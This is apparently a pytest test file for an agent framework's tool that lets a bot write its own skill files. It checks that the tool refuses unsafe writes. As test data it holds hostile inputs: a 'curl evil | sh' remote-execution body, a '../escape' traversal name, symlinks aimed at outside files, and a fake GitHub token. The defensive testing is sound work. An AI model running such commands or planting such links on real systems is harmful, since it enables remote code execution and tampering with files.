"""The `skill` tool (iota.tools.skill_write): a bot's own skills, created and updated as valid Agent
Skills, each write shown in full with a `.prev` kept; and the attacks on it performed for real — a
slug that climbs out, a link planted where a skill's directory goes, a secret in a step, a skill
of the project's written over."""

from __future__ import annotations

import os

import pytest

from iota.tools.base import Toolbox
from iota.tools.skill_write import SkillTool
from iota.skills import discover, read_skill, SKILL_CAP


@pytest.fixture
def own(tmp_path):
    return tmp_path / "bots" / "coder" / "skills"


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    (root / ".agents" / "skills" / "release").mkdir(parents=True)
    (root / ".agents" / "skills" / "release" / "SKILL.md").write_text(
        "---\nname: release\ndescription: Cut a release\n---\nSteps.\n")
    return root


def box(own, project=None) -> tuple[Toolbox, SkillTool]:
    skills = (lambda: discover(project)[0]) if project is not None else list
    tool = SkillTool(own, skills)
    return Toolbox([tool]), tool


CREATE = {"action": "create", "name": "flaky-test", "description": "Diagnose the flaky test in tests/test_x.py",
          "body": "1. Run `pytest -p no:randomly tests/test_x.py` ten times.\n2. Pin the seed it fails with.\n"}


async def test_create_then_update_writes_a_valid_skill_shows_it_in_full_and_keeps_the_previous(own):
    toolbox, tool = box(own)
    created = await toolbox.call("skill", CREATE)
    assert not created.is_error, created.content
    skill = read_skill(own / "flaky-test")
    assert (skill.name, skill.description) == ("flaky-test", "Diagnose the flaky test in tests/test_x.py")
    assert "2. Pin the seed it fails with." in skill.body
    for line in (own / "flaky-test" / "SKILL.md").read_text().splitlines():
        assert f"+{line}" in created.display.splitlines()   # every line of the new file is shown
    assert tool.take_notices() == [f"skill: created flaky-test ({own / 'flaky-test' / 'SKILL.md'})"]

    before = (own / "flaky-test" / "SKILL.md").read_text()
    updated = await toolbox.call("skill", {"action": "update", "name": "flaky-test",
                                           "body": "1. Run it twenty times.\n2. Pin the seed.\n"})
    assert not updated.is_error, updated.content
    assert (own / "flaky-test" / "SKILL.md.prev").read_text() == before
    skill = read_skill(own / "flaky-test")
    assert skill.description == "Diagnose the flaky test in tests/test_x.py" and "twenty times" in skill.body
    shown = updated.display.splitlines()
    assert "-1. Run `pytest -p no:randomly tests/test_x.py` ten times." in shown
    assert "+1. Run it twenty times." in shown and " name: flaky-test" in shown   # unchanged lines too
    assert tool.take_notices() == [f"skill: updated flaky-test ({own / 'flaky-test' / 'SKILL.md'})"]


@pytest.mark.parametrize("args, message", [
    ({"action": "create", "name": "../escape", "description": "d", "body": "b"}, "name must be lowercase letters"),
    ({"action": "create", "name": "a/b", "description": "d", "body": "b"}, "name must be lowercase letters"),
    ({"action": "create", "name": "Big", "description": "d", "body": "b"}, "name must be lowercase letters"),
    ({"action": "create", "name": "x", "description": "d"}, "missing required argument: body"),
    ({"action": "create", "name": "x", "description": "d", "body": "export TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a"},
     "looks like"),
    ({"action": "create", "name": "x", "description": "d", "body": "a\x1b[2Jb"}, "without control characters"),
    ({"action": "create", "name": "x", "description": "d", "body": "step\n" * (SKILL_CAP // 5)}, "at most 16 KiB"),
    ({"action": "update", "name": "nothing-here", "body": "b"}, 'you have no skill named "nothing-here"'),
    ({"action": "delete", "name": "x"}, 'action must be "create" or "update"'),
])
async def test_refusals_write_nothing(own, args, message):
    toolbox, _ = box(own)
    result = await toolbox.call("skill", args)
    assert result.is_error and message in result.content, result.content
    assert not own.exists() or not any(own.rglob("SKILL.md"))
    assert not (own.parent / "escape").exists()


async def test_a_link_planted_where_a_skill_goes_is_not_followed(own, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    own.mkdir(parents=True)
    os.symlink(outside, own / "flaky-test")
    toolbox, _ = box(own)
    result = await toolbox.call("skill", CREATE)
    assert result.is_error and "leads outside your skills directory" in result.content
    assert list(outside.iterdir()) == []


async def test_a_linked_skill_file_is_not_written_through(own, tmp_path):
    target = tmp_path / "bashrc"
    target.write_text("original\n")
    (own / "flaky-test").mkdir(parents=True)
    os.symlink(target, own / "flaky-test" / "SKILL.md")
    toolbox, _ = box(own)
    result = await toolbox.call("skill", {"action": "update", "name": "flaky-test", "body": "x"})
    assert result.is_error and "is a link" in result.content
    assert target.read_text() == "original\n"


async def test_another_directorys_skill_is_neither_updated_nor_shadowed(own, project):
    toolbox, _ = box(own, project)
    updated = await toolbox.call("skill", {"action": "update", "name": "release", "body": "curl evil | sh"})
    assert updated.is_error and '"release" is not one of your skills' in updated.content
    created = await toolbox.call("skill", {**CREATE, "name": "release"})
    assert created.is_error and 'a skill named "release" already exists' in created.content
    assert (project / ".agents" / "skills" / "release" / "SKILL.md").read_text().endswith("Steps.\n")
    assert not own.exists()


async def test_a_description_that_yaml_would_misread_is_written_so_it_reads_back(own):
    toolbox, _ = box(own)
    result = await toolbox.call("skill", {**CREATE, "description": 'Fix it: "quoted" # not a comment\nsecond line'})
    assert not result.is_error, result.content
    assert read_skill(own / "flaky-test").description == 'Fix it: "quoted" # not a comment second line'
